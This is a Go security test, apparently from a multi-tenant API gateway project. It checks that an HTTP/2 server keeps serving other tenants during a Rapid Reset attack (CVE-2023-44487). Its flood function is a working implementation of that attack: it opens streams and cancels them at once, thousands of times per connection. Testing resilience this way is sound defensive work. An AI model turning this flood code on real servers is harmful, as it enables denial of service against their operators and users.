package attack

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"errors"
	"io"
	"net/http"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// resets is how many requests a connection makes and takes back at once.
const resets = 5000

// A15: requests that are taken back as soon as they are made (CVE-2023-44487) cost the
// attacker its connection at most; the victim, and the attacker's other users, are
// served.
func TestRapidReset(t *testing.T) {
	config := w.attacker.as(t, "jane")
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(config.CAData)
	cert, err := tls.X509KeyPair(config.CertData, config.KeyData)
	if err != nil {
		t.Fatal(err)
	}
	for range 4 {
		conn, err := tls.Dial("tcp", w.doorAt, &tls.Config{RootCAs: pool, ServerName: "attacker.test", Certificates: []tls.Certificate{cert}, NextProtos: []string{"h2"}, MinVersion: tls.VersionTLS12})
		if err != nil {
			t.Fatal(err)
		}
		if err := conn.SetDeadline(time.Now().Add(time.Minute)); err != nil {
			t.Fatal(err)
		}
		read := make(chan error, 1)
		go func() { _, err := io.Copy(io.Discard, conn); read <- err }()
		sent := flood(conn)
		for name, c := range map[string]*tenant{"the victim": w.victim, "the attacker's administrator": w.attacker} {
			if code, body := do(t, c.admin(t), http.MethodGet, "/api/v1/namespaces", nil); code != http.StatusOK {
				t.Errorf("%s: %d %s", name, code, body)
			}
		}
		if sent < 200 {
			t.Errorf("the connection ended after %d requests: the test shows nothing", sent)
		}
		_ = conn.Close() // the server may have
		<-read
	}
}

// flood makes requests and takes them back, and returns how many were sent.
func flood(conn io.ReadWriter) (sent int) {
	var header bytes.Buffer
	h := hpack.NewEncoder(&header)
	for _, f := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "attacker.test"}, {Name: ":path", Value: "/api/v1/pods"}} {
		if h.WriteField(f) != nil {
			return 0
		}
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return 0
	}
	framer := http2.NewFramer(conn, nil)
	if framer.WriteSettings() != nil {
		return 0
	}
	for n := range resets {
		id := uint32(2*n + 1)
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header.Bytes(), EndStream: true, EndHeaders: true})
		if err = errors.Join(err, framer.WriteRSTStream(id, http2.ErrCodeCancel)); err != nil {
			return n
		}
	}
	return resets
}
